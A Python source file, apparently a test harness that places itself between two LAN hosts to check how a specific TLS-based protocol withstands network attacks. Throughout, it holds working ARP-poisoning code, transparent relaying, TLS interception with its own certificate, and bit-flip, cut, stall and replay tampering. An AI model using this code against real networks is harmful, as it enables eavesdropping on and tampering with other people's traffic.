#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A man in the middle between two hosts of one LAN.

Poisons both hosts' ARP tables so that what they send each other comes here,
takes their connections to one port, and relays each to the host it was meant
for, under the address of the host it came from. Needs root, and nothing but
ip(8); undone at the end (SIGTERM, SIGINT). One JSON object per line tells
what happens; {"event":"ready"} is the first.

    mitm.py pass                              relay; prove the position
    mitm.py intercept --identity DIR          TLS ends here, with a certificate
                                              of our own (peer.py identity)
    mitm.py flip --conn lane --at 100000      change one bit, once
    mitm.py cut --conn control --at message:3 cut the connection there
    mitm.py stall --conn lane --at -1         let nothing more through
    mitm.py record --file F                   keep what clients send
    mitm.py replay --file F                   send it again, to --b; this needs
                                              no position in between

Where (--at), in the direction --dir of the --nth connection of kind --conn:
    N          offset in the stream
    -N         N bytes before the end of a lane's last record
    pause:N    N bytes before the first pause of a lane, where the end of the
               devices' state is if the VM was paused first
    record:K   in the middle of the K-th TLS record; record:K:N its byte N,
               0 to 4 being its header
    message:K  in the middle of the K-th message of a control session, from 0,
               heartbeats not counted; message:-1 cannot be known in advance
What is encrypted is told apart by its length alone.
"""
import argparse
import json
import os
import signal
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

IP_TRANSPARENT = 19
TABLE = "7300"
HEARTBEAT = 14 + 17	# length of the records a quiet side sends
LANE_END = 22 + 17	# length of the record that ends a lane's stream
HOLD = 256 << 10	# held back while the end is awaited
PREAMBLE = 24		# in the clear before a lane's TLS
lock = threading.Lock()


def tell(event, **more):
    with lock:
        print(json.dumps(dict({"event": event}, **more)), flush=True)


def ip(*args, check=True):
    return subprocess.run(["ip", *args], check=check, capture_output=True,
                          text=True).stdout


# ---- getting in between ---------------------------------------------------

class Position:
    """Both hosts send to us what is for the other, as long as it stands."""

    def __init__(self, a, b, dev):
        self.a, self.b, self.dev = a, b, dev
        self.mac = {x: self.ask(x) for x in (a, b)}
        self.raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                                 socket.htons(0x0806))
        self.raw.bind((dev, 0))
        self.own = self.raw.getsockname()[4]
        self.going = True
        self.thread = threading.Thread(target=self.poison, daemon=True)

    def ask(self, address):
        """A host's true hardware address."""
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            for _ in range(50):
                s.sendto(b"", (address, 9))
                words = ip("neigh", "show", address, "dev", self.dev).split()
                if "lladdr" in words:
                    mac = words[words.index("lladdr") + 1]
                    return bytes.fromhex(mac.replace(":", ""))
                time.sleep(0.1)
        sys.exit("mitm.py: %s does not answer" % address)

    def say(self, to, address, mac):
        """Tell host `to` that address is at mac: as a question, which every
        host learns from."""
        self.raw.send(self.mac[to] + self.own + b"\x08\x06" +
                      struct.pack(">HHBBH", 1, 0x0800, 6, 4, 1) + mac +
                      socket.inet_aton(address) + bytes(6) +
                      socket.inet_aton(to))

    def poison(self):
        while self.going:
            self.say(self.a, self.b, self.own)
            self.say(self.b, self.a, self.own)
            time.sleep(0.1)

    def __enter__(self):
        for x in (self.a, self.b):
            ip("route", "replace", "local", x, "dev", "lo", "table", TABLE)
        ip("rule", "add", "iif", self.dev, "lookup", TABLE, "pref", "10")
        self.thread.start()
        time.sleep(0.25)
        return self

    def __exit__(self, *exc):
        self.going = False
        self.thread.join()
        ip("rule", "del", "iif", self.dev, "lookup", TABLE, "pref", "10",
           check=False)
        ip("route", "flush", "table", TABLE, check=False)
        for _ in range(3):
            self.say(self.a, self.b, self.mac[self.b])
            self.say(self.b, self.a, self.mac[self.a])


def transparent():
    s = socket.socket()
    s.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    return s


# ---- where ----------------------------------------------------------------

class Records:
    """Follows one direction's TLS records; tells where each begins."""

    def __init__(self):
        self.pos = 0		# of the stream, what was fed
        self.next = 0		# where the next record begins
        self.head = b""
        self.index = 0
        self.messages = 0
        self.encrypted = 0

    def feed(self, data, handshake, found):
        """found(start, length, index, type, message or None) for each record
        whose header ends in data; handshake: encrypted records before
        messages"""
        end = self.pos + len(data)
        if not self.pos and data[:1] == b"K":
            self.next = PREAMBLE
        while self.next + len(self.head) < end:
            have = self.next + len(self.head) - self.pos
            self.head += data[have:have + 5 - len(self.head)]
            if len(self.head) < 5:
                break
            kind, n = self.head[0], struct.unpack(">H", self.head[3:5])[0]
            message = None
            if kind == 0x17:
                if self.encrypted >= handshake and n != HEARTBEAT:
                    message = self.messages
                    self.messages += 1
                self.encrypted += 1
            found(self.next, n, self.index, kind, message)
            self.index += 1
            self.next += 5 + n
            self.head = b""
        self.pos = end


class Spot:
    """--at, resolved against a stream as it goes by."""

    # encrypted records of the handshake: certificate, proof, finished; and of
    # the server before that extensions and a certificate request
    HANDSHAKE = {"forward": 3, "back": 5}

    def __init__(self, at, direction, lane):
        self.offset = None
        self.kind, self.n, self.byte = "offset", None, None
        word, *more = at.split(":")
        if word in ("record", "message"):
            self.kind, self.n = word, int(more[0])
            self.byte = int(more[1]) if more[1:] else None
        elif word == "pause":
            self.kind, self.n = "pause", int(more[0])
        elif int(at) < 0:
            self.kind, self.n = "end", -int(at)
        else:
            self.offset = int(at)
        self.handshake = 1 << 30 if lane else self.HANDSHAKE[direction]

    def look(self, start, length, index, kind, message):
        n = index if self.kind == "record" else message
        if self.kind in ("record", "message") and n == self.n:
            inside = self.byte if self.byte is not None else 5 + length // 2
            self.offset = start + inside
        if self.kind == "end" and kind == 0x17 and length == LANE_END:
            self.offset = start + 5 + length - self.n

    def pause(self, pos):
        if self.kind == "pause":
            self.offset = pos - self.n

    @property
    def waits_for_end(self):
        return self.kind in ("end", "pause") and self.offset is None


# ---- relaying -------------------------------------------------------------

class Relay:
    """One connection of a host to another, and ours in its stead."""

    count = {"control": 0, "lane": 0}
    relayed = {"forward": 0, "back": 0}
    total = 0
    all = []

    def __init__(self, client, options):
        self.options = options
        self.number, Relay.total = Relay.total, Relay.total + 1
        self.client = client
        self.source, self.target = client.getpeername(), client.getsockname()
        self.stalled = threading.Event()
        self.lock = threading.Lock()
        self.kind, self.cut = None, False
        Relay.all.append(self)

    def run(self):
        try:
            first = self.client.recv(1, socket.MSG_PEEK)
            if not first:
                return
            self.kind = "lane" if first == b"K" else "control"
            with lock:
                self.nth = Relay.count[self.kind]
                Relay.count[self.kind] += 1
            tell("connection", number=self.number, kind=self.kind,
                 nth=self.nth, source=self.source[0], target=self.target[0])
            if self.options.what == "intercept" and self.kind == "control":
                self.intercept()
                return
            self.server = self.onward()
            t = threading.Thread(target=self.pump, args=(
                "back", self.server, self.client), daemon=True)
            t.start()
            self.pump("forward", self.client, self.server)
            t.join()
        except OSError as e:
            tell("error", number=self.number, what=str(e))
        finally:
            self.close()

    def onward(self):
        s = transparent()
        s.bind((self.source[0], 0))
        s.settimeout(10)
        s.connect(self.target)
        s.settimeout(None)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return s

    def close(self, hard=False):
        for s in (self.client, getattr(self, "server", None)):
            if not s:
                continue
            try:
                if hard:
                    s.shutdown(socket.SHUT_RDWR)
                s.close()
            except OSError:
                pass

    def chosen(self, direction):
        o = self.options
        return o.what in ("flip", "cut", "stall") and \
            o.conn in (self.kind, "any") and o.dir == direction and \
            (self.number if o.conn == "any" else self.nth) == o.nth

    def pump(self, direction, src, dst):
        records, held, gone, n = Records(), b"", 0, 0
        spot = Spot(self.options.at, direction, self.kind == "lane") \
            if self.chosen(direction) else None
        handshake = 1 << 30 if self.kind == "lane" else \
            Spot.HANDSHAKE[direction]
        trace = self.options.trace

        def found(start, length, index, kind, message):
            if trace and self.kind == "control":
                tell("record", number=self.number, dir=direction, index=index,
                     start=start, type=kind, length=length, message=message)
            if spot:
                spot.look(start, length, index, kind, message)

        writing = False
        try:
            while True:
                if held:
                    src.settimeout(0.4)
                writing = False
                try:
                    data = src.recv(1 << 18)
                except socket.timeout:
                    data = None		# let go of what is held
                    spot.pause(n)
                writing = True
                src.settimeout(None)
                if data == b"":
                    break
                if data:
                    n += len(data)
                    if spot or trace:
                        records.feed(data, handshake, found)
                    if self.options.what == "record" and \
                            direction == "forward":
                        self.options.keep(self.number, data)
                out = held + (data or b"")
                held = b""
                if spot and spot.waits_for_end and data:
                    keep = min(len(out), HOLD, max(0, n - HOLD))
                    out, held = out[:len(out) - keep], out[len(out) - keep:]
                if spot and spot.offset is not None and \
                        spot.offset < gone + len(out):
                    out = self.act(spot, out, gone)
                    spot = None
                if self.stalled.is_set():
                    self.stalled_for_good(src)
                    return
                gone += len(out)
                with lock:
                    Relay.relayed[direction] += len(out)
                dst.sendall(out)
            dst.sendall(held)
            dst.shutdown(socket.SHUT_WR)
        except OSError:
            # who does not take may still have something to say: the other
            # pump sees to that, and to the end
            if not writing or self.cut:
                self.close(hard=True)
        tell("end", number=self.number, kind=self.kind, dir=direction,
             bytes=gone)

    def act(self, spot, out, gone):
        o = self.options
        at = spot.offset - gone
        tell(o.what, number=self.number, kind=self.kind, dir=o.dir,
             offset=spot.offset, at=o.at)
        if at < 0:
            tell("error", number=self.number, what="it has gone by already")
            return out
        if o.what == "flip":
            return out[:at] + bytes([out[at] ^ 1 << o.bit]) + out[at + 1:]
        if o.what == "cut":
            self.cut = True
            raise OSError("cut")
        self.stalled.set()
        return out[:at]

    def stalled_for_good(self, src):
        while src.recv(1 << 16):
            pass

    # ---- with our own certificate ------------------------------------------

    def intercept(self):
        import certs
        import peer
        me = certs.Identity(self.options.identity)
        told = {}

        def shake(side, sock, server):
            try:
                told[side] = peer.tls_context(server, me).wrap_socket(
                    sock, server_side=server)
                if not server:		# a refusal comes after the handshake
                    told[side].settimeout(1)
                told[side].recv(1)
                return True
            except socket.timeout:
                return True
            except (OSError, ssl.SSLError) as e:
                tell("refused", number=self.number, by=side, what=str(e))
                return False

        self.server = self.onward()
        self.client.settimeout(5)
        self.server.settimeout(5)
        good = shake("client", self.client, True)
        good = shake("server", self.server, False) and good
        tell("intercepted" if good else "failed", number=self.number)


def serve(options):
    with Position(options.a, options.b, options.dev) as p:
        listener = transparent()
        listener.bind(("0.0.0.0", options.port))
        listener.listen(64)
        tell("ready", between=[options.a, options.b], own=p.own.hex(":"))
        try:
            while True:
                client, _ = listener.accept()
                threading.Thread(target=Relay(client, options).run,
                                 daemon=True).start()
        except KeyboardInterrupt:
            pass
        for r in Relay.all:
            r.close(hard=True)
    tell("summary", connections=Relay.total, relayed=Relay.relayed)


# ---- record and replay ----------------------------------------------------

class Recording:
    """What clients sent: connection u16, milliseconds u32, length u32, data"""

    def __init__(self, path):
        self.f = open(path, "wb", buffering=0)
        self.start = time.monotonic()

    def __call__(self, number, data):
        ms = int((time.monotonic() - self.start) * 1000)
        with lock:
            self.f.write(struct.pack(">HII", number, ms, len(data)) + data)

    @staticmethod
    def read(path):
        with open(path, "rb") as f:
            while True:
                head = f.read(10)
                if len(head) < 10:
                    return
                number, ms, n = struct.unpack(">HII", head)
                yield number, ms, f.read(n)


def replay(options):
    """Each connection again, in the order and at the pace of the recording."""
    open_, ended, start = {}, {}, time.monotonic()
    for number, ms, data in Recording.read(options.file):
        wait = ms / 1000 - (time.monotonic() - start)
        if wait > 0:
            time.sleep(min(wait, 0.2))
        if number not in open_:
            s = socket.create_connection((options.b, options.port), 10)
            open_[number], ended[number] = s, False
            tell("replay", number=number,
                 kind="lane" if data[:1] == b"K" else "control")
        try:
            if not ended[number]:
                open_[number].sendall(data)
        except OSError as e:
            ended[number] = True
            tell("refused", number=number, what=str(e))
    for number, s in open_.items():
        s.settimeout(5)
        got = b""
        try:
            while True:
                more = s.recv(65536)
                if not more:
                    break
                got += more
            how = "closed"
        except OSError as e:
            how = str(e)
        tell("answer", number=number, bytes=len(got), how=how,
             data=got[:64].hex())


def main():
    p = argparse.ArgumentParser(
        description=__doc__,
        formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("what", choices=["pass", "intercept", "flip", "cut",
                                    "stall", "record", "replay"])
    p.add_argument("--a", default="10.77.0.1", help="one host (10.77.0.1)")
    p.add_argument("--b", default="10.77.0.2", help="the other (10.77.0.2)")
    p.add_argument("--dev", default="eth0", help="our device (eth0)")
    p.add_argument("--port", type=int, default=7300, help="their port (7300)")
    p.add_argument("--conn", choices=["control", "lane", "any"],
                   default="lane", help="which connections (lane)")
    p.add_argument("--nth", type=int, default=0,
                   help="which of them, from 0 (0)")
    p.add_argument("--dir", choices=["forward", "back"], default="forward",
                   help="what the dialling host sends, or what comes back")
    p.add_argument("--at", default="100000", help="where, see above (100000)")
    p.add_argument("--bit", type=int, default=0, choices=range(8))
    p.add_argument("--identity", metavar="DIR")
    p.add_argument("--file", help="of a recording")
    p.add_argument("--trace", action="store_true",
                   help="tell of every record of control sessions")
    o = p.parse_args()
    if o.what in ("record", "replay") and not o.file:
        p.error("--file is missing")
    if o.what == "intercept" and not o.identity:
        p.error("--identity is missing")
    if o.what == "replay":
        replay(o)
        return
    if o.what == "record":
        o.keep = Recording(o.file)

    def end(*_):
        raise KeyboardInterrupt

    signal.signal(signal.SIGTERM, end)
    sys.path.insert(0, os.path.dirname(os.path.realpath(__file__)))
    serve(o)


if __name__ == "__main__":
    main()
